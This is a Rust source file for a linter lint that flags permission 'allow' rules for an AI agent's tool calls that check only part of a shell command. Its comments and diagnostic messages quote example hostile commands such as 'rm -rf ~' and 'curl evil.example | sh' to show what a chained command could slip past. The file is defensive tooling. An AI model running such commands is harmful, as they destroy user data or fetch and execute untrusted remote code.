//! An `allow` that tests only part of a call and allows the rest unseen: `git status; rm -rf ~` runs `git status` too,
//! and `touch docs/a; curl evil.example | sh` writes below `docs`.

use super::calls::{Call, Calls, Lacking};
use super::{FindingSink, Lint, SourceTexts};
use crate::diagnostic::{Code, Diagnostic};
use crate::ruleset::{CommandTest, Condition, Derived, Kind, Rule, Source, Test};
use crate::schema::TOOLS;
use crate::syntax::ast::FileVerb;

pub(super) const LINT: Lint = Lint { codes: &[Code::ALLOW_ON_PART], check };

fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
    if !rule.can_allow {
        return;
    }
    let calls = Calls::of(rule);
    let of_call = |call: &Call| {
        let clauses = [(&rule.when, false), (&rule.unless, true)];
        let clauses: Vec<_> = clauses.into_iter().filter_map(|(clause, not)| Some((clause.as_ref()?, not))).collect();
        let covers = clauses.iter().any(|(clause, negated)| is_covered(clause, *negated, Some(call)));
        if covers { None } else { clauses.iter().find_map(|(clause, negated)| part(clause, *negated, Some(call))) }
    };
    let of_record = || {
        let when = rule.when.as_ref().filter(|when| calls.names_others && !is_covered(when, false, None))?;
        part(when, false, None).filter(|part| matches!(part.kind, Kind::Command(_)))
    };
    if let Some(part) = calls.known.iter().filter(|call| call.runs()).find_map(of_call).or_else(of_record) {
        findings.push(finding(written, part));
    }
}

/// Whether a condition, or its negation, considers the whole of a call, so that no part of it is left untested.
fn is_covered(condition: &Condition, is_negated: bool, call: Option<&Call>) -> bool {
    if call.is_some_and(|call| call.comes_to(condition, Lacking::Decides) == Some(is_negated)) {
        return true;
    }
    match (&condition.kind, is_negated) {
        (Kind::And(parts), false) | (Kind::Or(parts), true) => {
            parts.iter().any(|part| is_covered(part, is_negated, call))
        }
        (Kind::Or(parts), false) | (Kind::And(parts), true) => {
            parts.iter().all(|part| is_covered(part, is_negated, call))
        }
        (Kind::Not(inner), _) => is_covered(inner, !is_negated, call),
        (Kind::Def(inner), _) => is_covered(inner, is_negated, call),
        (Kind::Command(CommandTest::OnlyRuns { .. }), false) => true,
        (Kind::Compare { source: Source::Derived(Derived::Command), negated, test, .. }, _) => {
            *negated == is_negated && matches!(test, Test::Equal(_) | Test::In(_))
        }
        _ => false,
    }
}

/// Returns the first test that leaves the rest of a call untested.
fn part<'c>(condition: &'c Condition, is_negated: bool, call: Option<&Call>) -> Option<&'c Condition> {
    if is_covered(condition, is_negated, call) {
        return None;
    }
    match (&condition.kind, is_negated) {
        (Kind::And(parts) | Kind::Or(parts), _) => parts.iter().find_map(|inner| part(inner, is_negated, call)),
        (Kind::Not(inner), _) => part(inner, !is_negated, call),
        (Kind::Def(inner), _) => part(inner, is_negated, call),
        (Kind::Command(CommandTest::Runs { .. } | CommandTest::Pipes { .. }), false)
        | (Kind::Touches { .. } | Kind::Connects(_), _) => Some(condition),
        _ => None,
    }
}

fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
    let only = "add `only runs [\"ls *\", …]`, which applies to the whole text";
    match &part.kind {
        Kind::Command(test) => {
            let finding = Diagnostic::new(Code::ALLOW_ON_PART, "an `allow` that tests one command")
                .label(part.span, "allows every other command of the text too")
                .help("write `only runs`, which applies to the whole text");
            let text = written.text(part.span);
            match test {
                CommandTest::Runs { filter: None, .. } if text.starts_with("runs ") => {
                    finding.fix_that_changes(part.span, format!("only {text}"))
                }
                _ => finding,
            }
        }
        Kind::Touches { verb, .. } => {
            let word = verb.word();
            let tools = file_tools(*verb);
            let help = match tools.is_empty() {
                true => only.to_owned(),
                false => format!("select the file tools: `on PreToolUse({})`; or {only}", tools.join("|")),
            };
            Diagnostic::new(Code::ALLOW_ON_PART, format!("an `allow` that looks at nothing but what a call {word}"))
                .label(part.span, "allows the whole text: `…; curl https://example.com/x | sh` too")
                .help(help)
        }
        _ => Diagnostic::new(Code::ALLOW_ON_PART, "an `allow` that looks at nothing but whom a call talks to")
            .label(part.span, "allows the whole text: `…; rm -rf src` too")
            .help(format!("select the tools: `on PreToolUse(WebFetch)`; or {only}")),
    }
}

/// Returns the tools that access a file in this way and run no command.
fn file_tools(verb: FileVerb) -> Vec<&'static str> {
    let is_so = |tool: &&crate::schema::ToolSpec| {
        // Only the well-known tools that access exactly one file.
        let [file] = tool.files else { return false };
        let does = match verb {
            FileVerb::Reads => file.reads && !file.writes,
            FileVerb::Writes => file.writes,
            FileVerb::Deletes | FileVerb::Sends => false,
        };
        does && tool.example_text == Some("file_path") && tool.command.is_none()
    };
    TOOLS.iter().filter(is_so).map(|tool| tool.name).collect()
}
